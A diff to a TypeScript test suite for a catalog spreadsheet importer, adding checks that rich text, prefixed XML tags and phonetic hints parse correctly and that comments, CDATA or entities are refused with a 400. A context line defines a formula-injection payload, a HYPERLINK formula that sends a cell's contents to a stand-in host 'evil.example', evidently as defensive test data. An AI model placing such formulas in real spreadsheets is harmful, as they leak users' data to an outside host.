@@ -4,6 +4,7 @@ import { IMPORT_LIMITS, IMPORT_MESSAGES } from '../src/catalog-sheets/sheet-impo
 import { csvFile } from '../src/catalog-sheets/sheet-files';
 import { StaffApp, type TestApp } from './helpers/test-app';
 import { createCategory, createProduct, storeImage } from './catalog.fixtures';
+import { column, headerRow, NS, xlsx } from './catalog-sheets.fixtures';
 
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
 const FORMULA_BRAND = '@SUM(1)';
@@ -152,6 +153,46 @@ describe('catalog spreadsheet import: formulas, images and bounded answers', () 
     const bare = await send('dry-run', await workbook([newCap({ visible: 'no', selling_price: { formula: 'N2*2' } as never })]), 'f.xlsx');
     expect(bare.status).toBe(400);
     expect(bare.body.errors.file).toBe(IMPORT_MESSAGES.formulaWithoutValue(`${col}2 (selling_price)`));
+  });
+
+  it('reads cells as Excel and other writers save them: shared and rich text, numbers, prefixed elements, phonetic hints', async () => {
+    const rich = await workbook([
+      newCap({
+        visible: 'no',
+        name: { richText: [{ text: 'Rich ' }, { font: { bold: true }, text: 'Cap' }] } as never,
+        cost_price: 50 as never,
+        selling_price: 99.5 as never,
+      }),
+    ]);
+    const read = await send('dry-run', rich, 'rich.xlsx');
+    expect(read.status).toBe(200);
+    expect(read.body.data.rows[0]).toMatchObject({ action: 'create', name: 'Rich Cap' });
+
+    // an element prefix on every tag (some writers), and a phonetic hint inside an inline string, which is not its text
+    const cap = newCap({ visible: 'no', name: 'Prefixed Cap' });
+    const cell = (h: string, i: number) =>
+      cap[h as keyof typeof cap] === undefined
+        ? ''
+        : `<x:c r="${column(i)}2" t="inlineStr"><x:is><x:t>${h === 'name' ? 'Prefixed' : cap[h as keyof typeof cap]}</x:t>${h === 'name' ? '<x:rPh sb="0" eb="1"><x:t>HINT</x:t></x:rPh><x:t> Cap</x:t>' : ''}</x:is></x:c>`;
+    const prefixed = await xlsx(function* () {
+      yield `<?xml version="1.0" encoding="UTF-8"?><x:worksheet xmlns:x="${NS}"><x:sheetData>`;
+      yield headerRow().replace(/<(\/?)(row|c|is|t)\b/g, '<$1x:$2');
+      yield `<x:row r="2">${HEADERS.map(cell).join('')}</x:row></x:sheetData></x:worksheet>`;
+    });
+    const back = await send('dry-run', prefixed, 'prefixed.xlsx');
+    expect(back.status).toBe(200);
+    expect(back.body.data.rows[0]).toMatchObject({ action: 'create', name: 'Prefixed Cap' });
+
+    // what Excel never writes and the parser would hold whole, and XML it refuses: 400, never a 500
+    for (const odd of ['<!-- a comment -->', '<![CDATA[x]]>', '&nbsp;']) {
+      const file = await xlsx(function* () {
+        yield `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${NS}"><sheetData>${headerRow()}`;
+        yield `<row r="2"><c r="B2" t="inlineStr"><is><t>Cap ${odd}</t></is></c></row></sheetData></worksheet>`;
+      });
+      const res = await send('dry-run', file, 'odd.xlsx');
+      expect(res.status).toBe(400);
+      expect(res.body.errors.file).toBe(IMPORT_MESSAGES.notSpreadsheet);
+    }
   });
 
   it("bounds the dry run's answer: long cells cut, refused rows past the first 100 counted, not listed", async () => {
